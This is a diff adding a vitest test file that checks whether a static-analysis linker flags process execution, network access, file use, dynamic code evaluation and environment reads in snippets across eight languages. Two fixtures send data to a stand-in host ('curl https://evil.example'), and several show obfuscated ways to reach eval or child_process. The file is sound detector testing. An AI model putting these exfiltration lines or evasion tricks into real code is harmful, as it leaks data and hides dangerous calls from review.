@@ -1,0 +1,264 @@
+import { describe, expect, test } from 'vitest';
+import { edgeTypeOf, type EdgeType } from '../../model/edge-types.ts';
+import { linkFixture } from '../link.testing.ts';
+
+/** What the function FN of a text does; of negatives, what it must not be said to do. */
+type Form = readonly [type: EdgeType, extension: string, text: string];
+
+const ts = (type: EdgeType, head: string, body: string): Form => [
+  type,
+  'ts',
+  `${head}\nexport async function FN(a: any, b: any) { ${body} }\n`,
+];
+const js = (type: EdgeType, head: string, body: string): Form => [
+  type,
+  'js',
+  `${head}\nfunction FN(a, b) { ${body} }\n`,
+];
+const py = (type: EdgeType, head: string, body: string): Form => [type, 'py', `${head}\ndef FN(a, b):\n    ${body}\n`];
+const go = (type: EdgeType, imports: string, body: string): Form => [
+  type,
+  'go',
+  `package p\nimport (\n${imports
+    .split(' ')
+    .map((one) => `\t"${one}"`)
+    .join('\n')}\n)\nfunc FN(a string, b []string) { ${body} }\n`,
+];
+const java = (type: EdgeType, imports: string, body: string): Form => [
+  type,
+  'java',
+  `package p;\n${imports}\nclass C { void FN(String a, String[] b) throws Exception { ${body} } }\n`,
+];
+const rb = (type: EdgeType, head: string, body: string): Form => [
+  type,
+  'rb',
+  `${head}\ndef FN(a, b)\n  ${body}\nend\n`,
+];
+const rs = (type: EdgeType, head: string, body: string): Form => [
+  type,
+  'rs',
+  `${head}\npub fn FN(a: &str, b: &str) { ${body} }\n`,
+];
+const cs = (type: EdgeType, head: string, body: string): Form => [
+  type,
+  'cs',
+  `${head}\nclass C { void FN(string a, object b) { ${body} } }\n`,
+];
+
+/** Processes, the network and the environment. */
+const FIRST: readonly Form[] = [
+  ts(
+    'executes_process',
+    `import { execSync } from 'node:child_process';`,
+    `execSync('curl https://evil.example -d ' + a)`,
+  ),
+  ts('executes_process', `import { exec } from 'child_process';`, `exec(a)`),
+  ts('executes_process', `import * as cp from 'child_process';`, `cp.spawn(a.program, b)`),
+  js('executes_process', `const { execSync } = require('child_process');`, `return [a].map(execSync)`),
+  ts('executes_process', `import { $ } from 'execa';`, 'await $`git log ${a}`'),
+  ts('consumes_endpoint', '', `await fetch(a.url)`),
+  ts('consumes_endpoint', `import axios from 'axios';`, 'await axios.get(`${a}${b}`)'),
+  ts('uses_network', `import net from 'node:net';`, `net.connect(443, a)`),
+  ts('reads_env', '', `return process.env[a]`),
+  ts('reads_env', '', `return Object.keys(process.env)`),
+  py('executes_process', 'import subprocess', `subprocess.run('curl https://evil.example --data ' + a, shell=True)`),
+  py('executes_process', 'import os', `os.system(f"{a} --version")`),
+  py('executes_process', 'import subprocess', `run = subprocess.run; run(a)`),
+  py('executes_process', 'from os import *', `system(a)`),
+  py('consumes_endpoint', 'import requests', `requests.get(a + b)`),
+  py('uses_network', 'import socket', `socket.create_connection((a, b))`),
+  py('reads_env', 'import os', `return os.environ[a]`),
+  py('reads_env', 'import os', `return dict(os.environ)`),
+  go('executes_process', 'os/exec', `exec.Command(a, b...).Run()`),
+  go('executes_process', 'os', `os.StartProcess(a, b, nil)`),
+  go('consumes_endpoint', 'net/http', `http.Get(a)`),
+  go('uses_network', 'net', `net.Dial("tcp", a)`),
+  go('reads_env', 'os', `os.Getenv(a)`),
+  java('executes_process', '', `new ProcessBuilder(b).start();`),
+  java('executes_process', '', `Runtime.getRuntime().exec(a);`),
+  java('uses_network', 'import java.net.*;', `new Socket(a, 80);`),
+  java('reads_env', '', `System.getenv(a);`),
+  rb('executes_process', '', `system(a)`),
+  rb('executes_process', '', '`git log #{a}`'),
+  rb('consumes_endpoint', `require 'net/http'`, `Net::HTTP.get(URI(a))`),
+  rb('reads_env', '', `ENV[a]`),
+  rs('executes_process', 'use std::process::Command;', `Command::new(a).spawn();`),
+  rs('uses_network', 'use std::net::TcpStream;', `TcpStream::connect(a);`),
+  rs('reads_env', '', `std::env::var(a);`),
+  cs('executes_process', 'using System.Diagnostics;', `Process.Start(a);`),
+  cs('uses_network', 'using System.Net.Sockets;', `new TcpClient(a, 80);`),
+  cs('reads_env', 'using System;', `Environment.GetEnvironmentVariable(a);`),
+];
+
+/** Files, code that is text, native code, and ways around the usual names. */
+const MORE: readonly Form[] = [
+  ts('uses_files', `import { readFile } from 'node:fs/promises';`, `await readFile(a)`),
+  ts('uses_files', `import * as fs from 'fs';`, `fs.writeFileSync(a, b)`),
+  js('uses_files', `const fs = require('fs');`, `return fs.promises.unlink(a)`),
+  ts('runs_code', '', `return eval(a)`),
+  ts('runs_code', '', `return (0, eval)(a)`),
+  ts('runs_code', '', `return new Function(a)()`),
+  ts('runs_code', '', `return Function(a)()`),
+  ts('runs_code', `import vm from 'node:vm';`, `vm.runInNewContext(a)`),
+  js('runs_code', '', `return require('child' + '_process')`),
+  ts('runs_code', '', `return import(a)`),
+  ts('runs_code', '', `globalThis['ev' + 'al'](a)`),
+  ts('runs_code', '', `globalThis['eval'](a)`),
+  ts('runs_code', `import { Worker } from 'node:worker_threads';`, `new Worker(a)`),
+  ts('executes_process', `import * as cp from 'node:child_process';`, `cp['ex' + 'ec'](a)`),
+  ts('executes_process', `import * as cp from 'node:child_process';`, `cp['exec'](a)`),
+  js('executes_process', '', `return require('child_process')[a](b)`),
+  js('executes_process', '', `require('child_process').exec.call(null, a)`),
+  ts('executes_process', `import { spawn as start } from 'node:child_process';`, `start(a, b)`),
+  ts(
+    'executes_process',
+    `import { promisify } from 'node:util';\nimport { exec } from 'node:child_process';`,
+    `await promisify(exec)(a)`,
+  ),
+  ts('uses_network', `import dns from 'node:dns';`, `dns.resolveTxt(a, b)`),
+  ts('uses_network', `import https from 'node:https';`, `https.request(a)`),
+  ts('uses_native', '', `process.dlopen(a, b)`),
+  py('uses_files', '', `return open(a).read()`),
+  py('uses_files', 'import os', `os.remove(a)`),
+  py('uses_files', 'from pathlib import Path', `return Path(a).read_text()`),
+  py('uses_files', 'import shutil', `shutil.rmtree(a)`),
+  py('runs_code', '', `exec(a)`),
+  py('runs_code', 'import os', `return getattr(os, a)(b)`),
+  py('executes_process', 'import os', `return getattr(os, a)(b)`),
+  py('executes_process', 'import os', `return getattr(os, 'system')(b)`),
+  py('runs_code', '', `return __import__(a)`),
+  py('runs_code', 'import importlib', `return importlib.import_module(a)`),
+  py('runs_code', 'import pickle', `return pickle.loads(a)`),
+  py('uses_native', 'import ctypes', `ctypes.CDLL(a)`),
+  py('executes_process', 'from subprocess import Popen as P', `P(a)`),
+  py('executes_process', 'import subprocess as s', `return map(s.check_output, a)`),
+  go('uses_files', 'os', `os.ReadFile(a)`),
+  go('uses_files', 'path/filepath', `filepath.Walk(a, nil)`),
+  go('runs_code', 'plugin', `plugin.Open(a)`),
+  go('runs_code', 'reflect', `reflect.ValueOf(b).MethodByName(a).Call(nil)`),
+  go('uses_native', 'C', `C.puts(nil)`),
+  go('uses_native', 'syscall', `syscall.Syscall(1, 2, 3, 4)`),
+  go('executes_process', 'os/exec', `run := exec.Command; run(a)`),
+  go('executes_process', 'os/exec', `(&exec.Cmd{Path: a}).Run()`),
+  go('reads_env', 'os', `os.Environ()`),
+  java('uses_files', 'import java.nio.file.*;', `Files.readString(Path.of(a));`),
+  java('uses_files', 'import java.io.*;', `new FileOutputStream(a);`),
+  java('runs_code', '', `Class.forName(a);`),
+  java('runs_code', 'import javax.script.*;', `new ScriptEngineManager().getEngineByName("js").eval(a);`),
+  java('uses_native', '', `System.loadLibrary(a);`),
+  java('uses_network', 'import java.net.URL;', `new URL(a).openStream();`),
+  java('reads_env', '', `System.getenv().forEach(null);`),
+  rb('uses_files', '', `File.read(a)`),
+  rb('uses_files', '', `Dir.glob(a)`),
+  rb('uses_files', `require 'fileutils'`, `FileUtils.rm_rf(a)`),
+  rb('runs_code', '', `eval(a)`),
+  rb('runs_code', '', `b.send(a)`),
+  rb('runs_code', '', `Object.const_get(a)`),
+  rb('runs_code', '', `b.instance_eval("#{a}.run")`),
+  rb('uses_native', `require 'fiddle'`, `Fiddle.dlopen(a)`),
+  rb('uses_network', `require 'socket'`, `TCPSocket.new(a, 80)`),
+  rb('uses_network', `require 'open-uri'`, `URI.open(a)`),
+  rb('executes_process', '', `%x(git log #{a})`),
+  rb('executes_process', '', `IO.popen(a)`),
+  rb('executes_process', `require 'open3'`, `Open3.capture2(a)`),
+  rb('reads_env', '', `ENV.to_h`),
+  rs('uses_files', 'use std::fs;', `fs::read_to_string(a);`),
+  rs('uses_files', 'use std::fs::File;', `File::open(a);`),
+  rs('uses_native', 'use libloading::Library;', `unsafe { Library::new(a) };`),
+  rs('uses_network', '', `reqwest::blocking::get(a);`),
+  rs('consumes_endpoint', '', `reqwest::blocking::get(a);`),
+  rs('reads_env', 'use std::env;', `env::vars();`),
+  rs('executes_process', 'use tokio::process::Command;', `Command::new(a).output();`),
+  cs('uses_files', 'using System.IO;', `File.ReadAllText(a);`),
+  cs('uses_files', 'using System.IO;', `new FileStream(a, FileMode.Open);`),
+  cs('runs_code', 'using System.Reflection;', `Assembly.Load(a);`),
+  cs('runs_code', 'using System;', `Activator.CreateInstance(Type.GetType(a));`),
+  cs('runs_code', 'using Microsoft.CodeAnalysis.CSharp.Scripting;', `CSharpScript.EvaluateAsync(a);`),
+  cs('uses_native', 'using System.Runtime.InteropServices;', `NativeLibrary.Load(a);`),
+  cs('uses_network', 'using System.Net.Http;', `new HttpClient().GetStringAsync(a);`),
+  cs('executes_process', 'using System.Diagnostics;', `var p = new Process(); p.Start();`),
+  [
+    'uses_native',
+    'cs',
+    `using System.Runtime.InteropServices;\nclass C { [DllImport("x.dll")] static extern int FN(int a); }\n`,
+  ],
+  ['uses_native', 'rs', `extern "C" { fn FN(s: *const u8) -> i32; }\n`],
+];
+
+/** The function of each does nothing of the kind. */
+const NEGATIVES: readonly Form[] = [
+  ts('executes_process', `function exec(a: string) { return a; }`, `return exec(a)`),
+  ts('executes_process', '', `return /x/.exec(a)`),
+  ts('executes_process', '', `const r = new RegExp(a); return r.exec(b)`),
+  ts('uses_files', `import path from 'node:path';`, `return path.join(a, b)`),
+  ts('reads_env', '', `process.env.TOKEN = a`),
+  ts('reads_env', '', `process.env[a] = b`),
+  js('runs_code', '', `return require('lodash')`),
+  ts('runs_code', '', `setTimeout(() => a, 10)`),
+  ts('uses_network', `class Client { fetch() { return 1; } }`, `return new Client().fetch()`),
+  ts('uses_files', `import { isIP } from 'node:net';`, `return isIP(a)`),
+  ts('uses_network', `import { isIP } from 'node:net';`, `return isIP(a)`),
+  py('executes_process', 'import re', `return re.compile(a).match(b)`),
+  py('uses_files', 'import os', `return os.path.join(a, b)`),
+  py('uses_files', `class Door:\n    def open(self): pass`, `Door().open()`),
+  py('reads_env', 'import os', `os.environ['X'] = a`),
+  py('reads_env', 'import os', `os.environ[a] = b`),
+  py('reads_env', 'import os', `os.putenv('X', a)`),
+  py('reads_env', 'import os', `os.environ.update(a)`),
+  py('runs_code', '', `return getattr(a, 'name')`),
+  py('executes_process', 'def system(a):\n    return a', `system(a)`),
+  go('reads_env', 'os', `os.Setenv("X", a)`),
+  go('uses_files', 'path/filepath', `filepath.Join(a, a)`),
+  go('executes_process', 'strings', `strings.ToUpper(a)`),
+  java('uses_files', 'import java.nio.file.*;', `Path.of(a).resolve(a);`),
+  java('executes_process', '', `String.format(a, 1);`),
+  java('runs_code', '', `a.getClass().getName();`),
+  rb('reads_env', '', `ENV['X'] = a`),
+  rb('uses_files', '', `File.join(a, b)`),
+  rb('runs_code', '', `b.send(:name)`),
+  rs('reads_env', 'use std::env;', `env::set_var("X", a);`),
+  rs('uses_files', 'use std::path::Path;', `Path::new(a).join(b);`),
+  cs('reads_env', 'using System;', `Environment.SetEnvironmentVariable("X", a);`),
+  cs('uses_files', 'using System.IO;', `Path.Combine(a, a);`),
+  cs('executes_process', 'using System.Text.RegularExpressions;', `Regex.Match(a, "x");`),
+];
+
+const nameOf = (at: number): string => `form${at}`;
+
+/** Types of edges that lead away from the function of each form. */
+async function typesOf(forms: readonly Form[]): Promise<ReadonlyMap<string, ReadonlySet<EdgeType>>> {
+  const fixture = forms.map(
+    ([, extension, text], at) => `=== ${nameOf(at)}/a.${extension}\n${text.replaceAll('FN', nameOf(at))}`,
+  );
+  const { nodes, edges } = await linkFixture(fixture.join(''));
+  const types = new Map<string, Set<EdgeType>>();
+  for (let edge = 0; edge < edges.count; edge += 1) {
+    const { name } = nodes[edges.source[edge]!]!;
+    if (!types.has(name)) types.set(name, new Set());
+    types.get(name)!.add(edgeTypeOf(edges.type[edge]!));
+  }
+  return types;
+}
+
+const last = (text: string): string => text.trim().split('\n').slice(-1)[0]!.trim().slice(0, 90);
+const rows = (forms: readonly Form[]): [string, number, EdgeType][] =>
+  forms.map(([type, extension, text], at) => [
+    `${extension} ${type}: ${last(extension === 'rb' || extension === 'py' ? text.replace(/\nend\s*$/, '') : text)}`,
+    at,
+    type,
+  ]);
+
+describe('what reaches outside of the program has an edge, known or open', async () => {
+  const forms = [...FIRST, ...MORE];
+  const types = await typesOf(forms);
+  test.each(rows(forms))('%s', (_name, at, type) => {
+    expect([...(types.get(nameOf(at)) ?? [])]).toContain(type);
+  });
+});
+
+describe('what does not reach outside has none', async () => {
+  const types = await typesOf(NEGATIVES);
+  test.each(rows(NEGATIVES))('%s', (_name, at, type) => {
+    expect([...(types.get(nameOf(at)) ?? [])]).not.toContain(type);
+  });
+});
